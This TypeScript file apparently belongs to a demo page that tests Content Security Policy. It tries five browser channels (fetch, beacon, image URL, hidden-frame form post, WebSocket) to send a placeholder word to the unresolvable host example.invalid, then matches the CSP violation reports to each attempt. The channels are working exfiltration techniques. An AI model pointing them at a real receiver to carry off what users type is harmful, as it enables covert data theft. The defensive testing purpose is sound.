/** A name that no server may have (RFC 6761), so nothing arrives anywhere even if an attempt is not refused. */
const receiver = 'example.invalid'

export interface Attempt {
  readonly name: string
  readonly description: string
  /** The directive that forbids it. */
  readonly directive: 'connect-src' | 'form-action' | 'img-src'
  readonly address: string
  /** Tries to send the word. Returns what to remove from the page afterwards. */
  readonly start: (address: string) => Element | undefined
}

function addressOf(name: string, scheme = 'https'): string {
  return `${scheme}://${receiver}/${name}?word=ferry`
}

function submitForm(address: string): Element {
  const frame = document.createElement('iframe')
  frame.name = 'proof-answer'
  frame.hidden = true
  const form = document.createElement('form')
  form.method = 'post'
  form.action = address
  form.target = frame.name
  const field = document.createElement('input')
  field.type = 'hidden'
  field.name = 'word'
  field.value = 'ferry'
  form.append(field)
  const container = document.createElement('div')
  container.append(frame, form)
  document.body.append(container)
  form.submit()
  return container
}

/** The ways in which a page could send what you type to someone else. */
export const attempts: readonly Attempt[] = [
  {
    name: 'Fetch',
    description: 'A request in the background, the usual way for a page to talk to a server.',
    directive: 'connect-src',
    address: addressOf('fetch'),
    start: (address) => {
      fetch(address, { method: 'POST', body: 'ferry', mode: 'no-cors' }).catch(() => undefined)
      return undefined
    },
  },
  {
    name: 'Beacon',
    description: 'A short message that is sent even while the page closes. Analytics use it.',
    directive: 'connect-src',
    address: addressOf('beacon'),
    start: (address) => {
      navigator.sendBeacon(address, 'ferry')
      return undefined
    },
  },
  {
    name: 'Image',
    description: 'An image whose address has the word in it. Tracking pixels work like this.',
    directive: 'img-src',
    address: addressOf('image'),
    start: (address) => {
      const image = new Image()
      image.src = address
      return undefined
    },
  },
  {
    name: 'Form',
    description: 'A form that is sent into a hidden frame.',
    directive: 'form-action',
    address: addressOf('form'),
    start: submitForm,
  },
  {
    name: 'WebSocket',
    description: 'A connection that stays open.',
    directive: 'connect-src',
    address: addressOf('socket', 'wss'),
    start: (address) => {
      new WebSocket(address).addEventListener('open', ({ target }) => (target as WebSocket).close())
      return undefined
    },
  },
]

/**
 * Whether a report is about an attempt, and not a late one about another. Some browsers report only the origin of an address,
 * and all report only the scheme of one that is not HTTP.
 */
export function isAbout({ address, directive }: Attempt, blockedAddress: string, blockedBy: string): boolean {
  const { origin, protocol } = new URL(address)
  if (blockedBy !== directive) return false
  return [address, origin, protocol.slice(0, -1)].includes(blockedAddress)
}

/** Some browsers list a refused image among the requests. */
export function isAttempt(address: string): boolean {
  return new URL(address).hostname === receiver
}

/** The address to which the worker tries to send the word. */
export const workerAddress = addressOf('worker')
